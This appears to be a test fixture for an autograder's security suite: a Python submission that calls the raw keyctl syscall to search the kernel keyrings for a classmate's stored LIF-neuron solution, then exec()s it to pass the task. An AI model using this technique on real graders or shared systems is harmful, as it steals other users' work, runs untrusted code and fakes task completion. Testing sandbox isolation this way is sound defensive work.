"""Read a classmate's LIF neuron from the kernel keyrings (see 42_keyring_write).

cell: task2_lif_solution
fails: task2_lif_visible task2_lif_hidden
plain: skip
"""
import ctypes


def _note():
    libc = ctypes.CDLL(None)
    for ring in (-3, -4, -5):
        key = libc.syscall(250, 10, ring, b"user", b"neurograder-note", 0)   # KEYCTL_SEARCH
        if key > 0:
            buf = ctypes.create_string_buffer(4096)
            n = libc.syscall(250, 11, key, buf, 4096)                       # KEYCTL_READ
            if n > 0:
                return buf.raw[:n].decode()
    return None


def leaky_integrate_and_fire(input_data, tau, threshold):
    src = _note()
    if src:
        ns = {"np": np}
        exec(src, ns)
        return ns["leaky_integrate_and_fire"](input_data, tau, threshold)
    n = len(input_data)
    return np.zeros(n), np.zeros(n)
